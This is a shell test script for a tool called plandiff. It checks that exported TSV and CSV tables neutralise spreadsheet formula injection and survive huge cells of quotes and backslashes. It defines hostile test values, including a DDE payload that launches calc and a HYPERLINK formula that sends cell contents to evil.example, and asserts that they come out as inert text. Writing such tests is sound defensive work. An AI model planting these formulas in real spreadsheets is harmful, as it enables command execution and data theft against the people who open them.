# tables.sh — every TSV/CSV table (measures, matrix, goals, coverage and
# `export measures`) is safe to open in a spreadsheet: a cell that starts
# with =, +, -, @, tab or CR gets a leading ' (OWASP's CSV-injection rule),
# and no value, however long or odd, breaks a table.
. tests/lib.sh

T="$TEST_TMP"
calc="=cmd|' /C calc'!A0"
link='=HYPERLINK("http://evil.example/?leak="&A1,"Klikk")'
xml_attr() { sed 's/&/\&amp;/g; s/"/\&quot;/g; s/</\&lt;/g'; }
quotes=$(head -c 1000 /dev/zero | tr '\0' '"')
backslashes=$(head -c 2500 /dev/zero | tr '\0' '\\')
plan() { # ID NAME: a plan whose goal, local measure and quotes are hostile
  local goal calc_x quotes_x
  goal=$(printf '%s' "$link" | xml_attr)
  calc_x=$(printf '%s' "$calc" | xml_attr)
  quotes_x=$(printf '%s' "$quotes" | xml_attr)
  cat <<XML
<?xml version="1.0" encoding="UTF-8"?>
<plan schema-version="1">
  <generator name="plandiff" version="0.1.0"/>
  <municipality id="$1" name="$2" county="Testfylke"/>
  <document file="$1.txt" doc-type="plan" year="2024" lines="40"/>
  <goals><goal id="g1" kind="goal" file="$1.txt" line="5" quote="$goal">$goal</goal></goals>
  <measures>
    <measure id="m1" kind="local" use="runs">
      <name>$calc_x</name>
      <level value="selektiv" file="$1.txt" line="10" quote="+47 selektiv"/>
      <mention file="$1.txt" line="10" quote="@here $calc_x"/>
    </measure>
    <measure id="m2" kind="local" use="runs">
      <name>$quotes_x</name>
      <mention file="$1.txt" line="11" quote="-quotes"/>
    </measure>
    <measure id="m3" kind="local" use="runs">
      <name>$backslashes</name>
      <theme>&#9;tab first</theme>
      <mention file="$1.txt" line="12" quote="&#13;carriage return first"/>
    </measure>
    <measure id="m4" ref="tibir" kind="programme" use="runs">
      <name>TIBIR</name>
      <mention file="$1.txt" line="13" quote="TIBIR"/>
    </measure>
  </measures>
</plan>
XML
}
plan aheim Åheim >"$T/a.xml"
plan bheim Bheim >"$T/b.xml"

# Every cell of every table: nothing a spreadsheet would run.
check_tables() { # NAME FILE...
  local name=$1
  shift
  if python3 - "$@" >"$T/cells" 2>&1 <<'PY'; then pass "$name"; else fail "$name" "$(head -n 5 "$T/cells")"; fi
import csv, sys
bad = []
for path in sys.argv[1:]:
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f)) if path.endswith(".csv") else [l.rstrip("\n").split("\t") for l in f]
    width = len(rows[0])
    for n, row in enumerate(rows, 1):
        if len(row) != width:
            bad.append(f"{path}:{n}: {len(row)} cells, header has {width}")
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                bad.append(f"{path}:{n}: cell starts with {cell[:1]!r}: {cell[:40]!r}")
print("\n".join(bad))
sys.exit(1 if bad else 0)
PY
}

for format in tsv csv; do
  expect_status "export measures --format $format with hostile cells" 0 \
    "$PLANDIFF" export measures --format "$format" -o "$T/export.$format" "$T/a.xml" "$T/b.xml"
  check_tables "export $format: no cell starts a formula, every row whole" "$T/export.$format"
done
grep -qF "'=cmd|' /C calc'!A0" "$T/export.tsv" && pass "the calc payload is kept as text behind a quote" ||
  fail "the calc payload is kept as text behind a quote" "$(head -n 3 "$T/export.tsv")"
grep -qF "'@here =cmd" "$T/export.tsv" && pass "a quote starting with @ is neutralised" || fail "a quote starting with @ is neutralised"
grep -qF "'\\ttab first" "$T/export.tsv" && pass "a value starting with a tab is neutralised and escaped" ||
  fail "a value starting with a tab is neutralised and escaped"
grep -qF "'\\rcarriage return first" "$T/export.tsv" && pass "a value starting with CR is neutralised and escaped" ||
  fail "a value starting with CR is neutralised and escaped"

# One huge cell of quotes or backslashes is escaped in full; the table
# around it is whole (a recursive escape once dropped the whole table).
n=$(grep -o '\\\\' "$T/export.tsv" | wc -l)
[ "$n" = 5000 ] && pass "2,500 backslashes in one cell: each escaped (TSV)" || fail "2,500 backslashes in one cell: each escaped (TSV)" "found $n pairs"
python3 - "$T/export.csv" "$quotes" "$backslashes" <<'PY' && pass "1,000 quotes and 2,500 backslashes survive a CSV round trip" || fail "1,000 quotes and 2,500 backslashes survive a CSV round trip"
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
names = [r[2] for r in rows[1:]]
sys.exit(0 if sys.argv[2] in names and sys.argv[3] in names and len(rows) == 9 else 1)
PY

# The report set: compare, then render every table.
expect_status "compare the hostile plans" 0 "$PLANDIFF" compare -o "$T/cmp.xml" "$T/a.xml" "$T/b.xml"
expect_status "render the hostile plans" 0 "$PLANDIFF" render -o "$T/rep" "$T/cmp.xml" "$T/a.xml" "$T/b.xml"
check_tables "report tables: no cell starts a formula, every row whole" "$T"/rep/*.tsv "$T"/rep/*.csv
# measures.csv/.tsv of the report hold every municipality's huge cells (a
# recursive escape once dropped the table for every municipality).
python3 - "$T/rep/measures.csv" "$T/rep/measures.tsv" "$quotes" "$backslashes" <<'PY' && pass "report measures: 1,000 quotes and 2,500 backslashes kept for both municipalities" || fail "report measures: 1,000 quotes and 2,500 backslashes kept for both municipalities"
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
tsv = open(sys.argv[2], encoding="utf-8").read()
ok = all(any(r[0] == m and r[2] == sys.argv[3] for r in rows) and any(r[0] == m and r[2] == sys.argv[4] for r in rows)
         for m in ("aheim", "bheim"))
sys.exit(0 if ok and tsv.count("\\\\" * 2500) == 2 else 1)
PY
grep -qF "'=HYPERLINK(" "$T/rep/goals.tsv" && pass "the HYPERLINK goal is in goals.tsv, as text" ||
  fail "the HYPERLINK goal is in goals.tsv, as text" "$(cut -c1-200 "$T/rep/goals.tsv")"
csv_cell="\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Klikk\"\")\""
grep -qF "$csv_cell" "$T/rep/goals.csv" &&
  pass "goals.csv: neutralised inside RFC 4180 quoting" || fail "goals.csv: neutralised inside RFC 4180 quoting" "$(cut -c1-200 "$T/rep/goals.csv")"

# The bundled corpus has values that start with - or @ ('@pi-parken').
expect_status "run on the bundled corpus" 0 "$PLANDIFF" run --quiet -o "$T/corpus" corpus
check_tables "bundled corpus tables: no cell starts a formula, every row whole" "$T"/corpus/*.tsv "$T"/corpus/*.csv
